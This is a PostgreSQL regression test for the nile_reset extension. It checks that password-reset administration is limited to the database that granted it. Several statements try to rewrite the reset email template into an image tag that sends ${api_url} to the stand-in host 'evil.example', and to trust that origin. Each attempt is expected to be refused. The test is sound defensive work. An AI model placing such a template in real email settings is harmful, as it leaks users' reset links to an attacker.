-- A role administers nile_reset only in the databases that named it. The
-- attack this stops: a member of 0.2.0's cluster-wide nile_reset_admin, with
-- no other right in another database, rewrote that database's reset
-- template to an image on its own origin carrying ${api_url} and trusted
-- that origin: the database's reset links leaked without a click. Here a
-- second database (through dblink, as the roles themselves) has nile_reset
-- and administrators of its own.
\set VERBOSITY terse
DROP EXTENSION IF EXISTS dblink;
DROP EXTENSION IF EXISTS nile_reset CASCADE;
DROP SCHEMA IF EXISTS auth CASCADE;
DROP DATABASE IF EXISTS regress_admins_other;
DROP ROLE IF EXISTS regress_tenant_here, regress_tenant_there, regress_old_admin;
CREATE EXTENSION dblink;
CREATE ROLE regress_tenant_here LOGIN;
CREATE ROLE regress_tenant_there LOGIN;
DO $$
BEGIN
    IF NOT EXISTS (SELECT 1 FROM pg_roles WHERE rolname = 'nile_reset_admin') THEN
        CREATE ROLE nile_reset_admin NOLOGIN;
    END IF;
END
$$;
CREATE ROLE regress_old_admin LOGIN IN ROLE nile_reset_admin;
CREATE DATABASE regress_admins_other;
SELECT format('host=%s port=%s dbname=regress_admins_other user=', :'HOST', :'PORT') AS there \gset

-- nile_reset here, with regress_tenant_here as its administrator; there,
-- with regress_tenant_there.
CREATE EXTENSION nile_reset;
SELECT auth.grant_admin('regress_tenant_here');
SELECT dblink_exec(:'there' || 'postgres', 'CREATE EXTENSION nile_reset');
SELECT * FROM dblink(:'there' || 'postgres', $$SELECT auth.grant_admin('regress_tenant_there')$$) AS t(added boolean);

-- Each administers its own database ...
SET ROLE regress_tenant_here;
UPDATE nile_reset.email_templates SET sender = 'here@example.com' WHERE name = 'password_reset';
RESET ROLE;
SELECT dblink_exec(:'there' || 'regress_tenant_there',
    $$UPDATE nile_reset.email_templates SET sender = 'there@example.com' WHERE name = 'password_reset'$$);

-- ... and nothing in the other (42501): not the template, not an origin.
SELECT dblink_exec(:'there' || 'regress_tenant_here',
    $$UPDATE nile_reset.email_templates SET body = '<img src="https://evil.example/pixel.gif?l=${api_url}">'
       WHERE name = 'password_reset'$$);
\echo :LAST_ERROR_SQLSTATE
SELECT * FROM dblink(:'there' || 'regress_tenant_here',
    $$SELECT auth.add_trusted_origin('https://evil.example')$$) AS t(origin text);
\echo :LAST_ERROR_SQLSTATE
SET ROLE regress_tenant_there;
UPDATE nile_reset.email_templates SET body = '<img src="https://evil.example/pixel.gif?l=${api_url}">'
 WHERE name = 'password_reset';
\echo :LAST_ERROR_SQLSTATE
SELECT auth.add_trusted_origin('https://evil.example');
\echo :LAST_ERROR_SQLSTATE
RESET ROLE;
-- A member of the old cluster-wide role administers neither.
SELECT dblink_exec(:'there' || 'regress_old_admin',
    $$UPDATE nile_reset.email_templates SET body = '<img src="https://evil.example/pixel.gif?l=${api_url}">'
       WHERE name = 'password_reset'$$);
\echo :LAST_ERROR_SQLSTATE
SET ROLE regress_old_admin;
SELECT auth.add_trusted_origin('https://evil.example');
\echo :LAST_ERROR_SQLSTATE
RESET ROLE;

-- Each database's templates and origins are as its own administrator left
-- them; each lists only its own administrators.
SELECT sender, body LIKE '%evil%' AS rewritten FROM nile_reset.email_templates
 WHERE name = 'password_reset' AND NOT is_default;
SELECT count(*) AS origins FROM nile_reset.trusted_origins;
SELECT role FROM auth.admins();
SELECT * FROM dblink(:'there' || 'postgres',
    $$SELECT sender, body LIKE '%evil%', (SELECT count(*) FROM nile_reset.trusted_origins),
             (SELECT string_agg(role::text, ', ') FROM auth.admins())
        FROM nile_reset.email_templates WHERE name = 'password_reset' AND NOT is_default$$)
    AS t(sender text, rewritten boolean, origins bigint, admins text);

SELECT auth.revoke_admin('regress_tenant_here');
DROP EXTENSION nile_reset;
DROP DATABASE regress_admins_other;
DROP EXTENSION dblink;
DROP ROLE regress_tenant_here, regress_tenant_there, regress_old_admin;
